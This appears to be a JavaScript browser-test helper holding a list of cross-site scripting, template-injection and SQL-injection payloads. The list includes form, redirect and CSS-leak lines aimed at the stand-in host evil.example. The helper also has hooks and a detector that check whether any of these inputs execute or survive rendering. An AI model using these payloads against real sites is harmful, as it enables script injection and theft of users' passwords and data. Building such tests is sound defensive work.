// Texts that would like to run, to load, to cover or to break out: each is to be shown as what it is.

export const HOSTILE = [
  `<script>alert(1)</script>`,
  `"><img src=x onerror=alert(1)>`,
  `'><svg onload=alert(1)>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `javascript:alert(1)`,
  `[x](javascript:alert(1))`,
  `<a href="javascript:alert(1)">x</a>`,
  `{{7*7}} \${7*7} {% raw %}`,
  `{{constructor.constructor('alert(1)')()}}`,
  `</textarea><script>alert(1)</script>`,
  `</title><script>alert(1)</script>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>`,
  `<template><script>alert(1)</script></template>`,
  `<details open ontoggle=alert(1)>`,
  `&lt;b&gt;&amp;amp; &#60;script&#62;`,
  `\u202Egnp.exe and \u200Fmixed\u200E text`,
  `'; drop table events; --`,
  `<form action=//evil.example><input name=password></form>`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<base href=//evil.example/>`,
  `<img src=x oneRRor=alert(1)//`,
  `<svg/onload=alert(1)>`,
  `<body onload=alert(1)>`,
  `<input autofocus onfocus=alert(1)>`,
  `<video><source onerror=alert(1)></video>`,
  `<audio src=x onerror=alert(1)></audio>`,
  `<object data="javascript:alert(1)"></object>`,
  `<embed src="data:text/html,<script>alert(1)</script>">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>*{background:url(//evil.example/leak)}</style>`,
  `<div style="position:fixed;inset:0;z-index:9999">all of it</div>`,
  `" autofocus onfocus=alert(1) x="`,
  `' onmouseover='alert(1)`,
  `" style="position:fixed;inset:0" data-go="//evil.example`,
  `<!--><script>alert(1)</script-->`,
  `<![CDATA[<script>alert(1)</script>]]>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<a href="java&#10;script:alert(1)">x</a>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `https://shop.example/"onmouseover="alert(1)`,
  `https://shop.example/?a=<script>alert(1)</script>`,
  `<deskbell-chat onload=alert(1)></deskbell-chat>`,
  `<form id=main action=//evil.example></form>`,
  `<input name=csrf><input name=action>`,
  `#m-1" data-k="0`,
  `{"type":"recall","event":"all"}`,
  `</script><script>alert(1)</script>`,
  `\u2028alert(1)\u2029`,
  `%3Cscript%3Ealert(1)%3C/script%3E`,
  `{customer.name}{{customer.name}}`,
  `<script>top.ran=1</script>`,
  `<img src=x onerror=top.ran=1>`,
  `<svg><animate onbegin=top.ran=1 attributeName=x dur=1s></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src=x onerror=top.ran=1>`,
];

/** Runs in every document before its own scripts. */
function listen() {
  addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI }) =>
    window.tellReport(`${violatedDirective} ${blockedURI} in ${location}`),
  );
  const run = () => window.tellExecution(`a script set something in ${location}`);
  Object.defineProperty(window, "ran", { set: run });
  for (const name of ["alert", "confirm", "prompt"]) window[name] = run;
}

/** Gives what such texts do in pages of this context: what ran, and what a policy refused. */
export async function watchFor(context) {
  const told = { executions: [], reports: [] };
  await context.exposeFunction("tellExecution", (what) => told.executions.push(what));
  await context.exposeFunction("tellReport", (what) => told.reports.push(what));
  await context.addInitScript(listen);
  return told;
}

/** The elements that no page of ours has; whatever waits for a pointer or the focus was given it. */
export function wrong(page) {
  return page.evaluate(() => {
    for (const el of document.querySelectorAll("body *"))
      for (const name of ["mouseover", "focus"]) el.dispatchEvent(new Event(name));
    const ours = "script[src^='/assets/'], script[type='application/json'], script[nonce]";
    const odd = [
      ...document.querySelectorAll("script, iframe, object, embed, base, math, video, audio, style, deskbell-chat"),
    ];
    const found = odd.filter((el) => !el.matches(`${ours}, iframe.preview, iframe[sandbox], style[nonce]`));
    const handlers = [...document.querySelectorAll("*")].filter((el) =>
      [...el.attributes].some(
        ({ name, value }) =>
          name.startsWith("on") || (/^\s*(javascript|data):/i.test(value) && /^(href|src|action|data)$/.test(name)),
      ),
    );
    const leadsAway = (to) => to && new URL(to, location).hostname === "evil.example";
    const strangers = [...document.querySelectorAll("[href], [action], [src]")].filter(
      (el) =>
        [el.getAttribute("href"), el.getAttribute("action"), el.getAttribute("src")].some(leadsAway) ||
        el.matches("[src=x]"),
    );
    return [...found, ...handlers, ...strangers].map((el) => el.outerHTML.slice(0, 120));
  });
}
